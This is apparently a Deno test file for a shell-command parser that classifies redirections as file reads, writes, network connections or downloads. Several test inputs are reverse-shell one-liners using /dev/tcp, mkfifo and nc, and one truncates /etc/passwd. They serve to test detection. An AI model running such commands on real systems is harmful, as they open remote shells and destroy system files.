import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";
import { isStandardStream, socketTarget } from "./redirect.ts";

function effects(source: string): string[] {
  return readCommand(source, { home: "/h", cwd: "/w" }).effects.map((effect) =>
    effect.kind === "connect" ? `connect ${effect.target}` : `${effect.kind} ${effect.path}`
  );
}

for (
  const [source, want] of [
    ["p > a", ["write /w/a"]],
    ["p >> ~/a", ["write /h/a"]],
    ["p &> a", ["write /w/a"]],
    ["p >| a", ["write /w/a"]],
    ["p <> a", ["read /w/a", "write /w/a"]],
    ["p < a", ["read /w/a"]],
    ["p 2>&1 > /dev/null < /dev/null", []],
    ["> a", ["write /w/a"]],
    ["{ p; q; } > a", ["write /w/a"]],
    ["while p; do q; done < a", ["read /w/a"]],
    ["f() { p; } > a; f", ["write /w/a"]],
    ["exec 3<>/dev/tcp/h/80", ["connect tcp://h:80"]],
    ["p > /dev/udp/h/53", ["connect udp://h:53"]],
    ["x=a; p > $x/b", ["write /w/a/b"]],
    ["p {fd}> a", ["write /w/a"]],
  ] as const
) {
  Deno.test(source, () => assert.deepEqual(effects(source), [...want]));
}

Deno.test("redirections have one spelling", () => {
  assert.equal(readCommand("p>a 2>>b <<<c >&d", {}).commands[0]?.redirected, "p > a 2>> b <<< c &> d");
});

Deno.test("a redirection alone stands as :", () => {
  assert.equal(readCommand("> /etc/passwd", {}).commands[0]?.redirected, ": > /etc/passwd");
});

Deno.test("standard input from a connection is a download", () => {
  assert.equal(readCommand("bash -i >& /dev/tcp/h/1 0>&1", {}).commands[0]?.code, "download");
  assert.equal(readCommand("exec 3<>/dev/tcp/h/1; sh <&3", {}).commands.at(-1)?.code, "download");
  assert.equal(readCommand("mkfifo f; sh < f | nc h 1 > f", {}).commands[1]?.code, "download");
});

Deno.test("here-documents are standard input, expanded unless quoted", () => {
  const last = (source: string): string | undefined =>
    readCommand(source, { home: "/h" }).commands.at(-1)?.text;
  assert.equal(last("sh <<E\nrm $HOME/x\nE"), "rm /h/x");
  assert.equal(last("x=1; sh <<'E'\np $x-\nE"), "p \uFFFF-");
  assert.equal(last("sh <<-E\n\t\trm $HOME/x\n\tE"), "rm /h/x");
});

Deno.test("isStandardStream and socketTarget", () => {
  assert.ok(isStandardStream("/dev/null") && isStandardStream("/dev/fd/3") && !isStandardStream("/dev/sda"));
  assert.equal(socketTarget("/dev/tcp/h/80"), "tcp://h:80");
  assert.equal(socketTarget("/dev/null"), undefined);
});
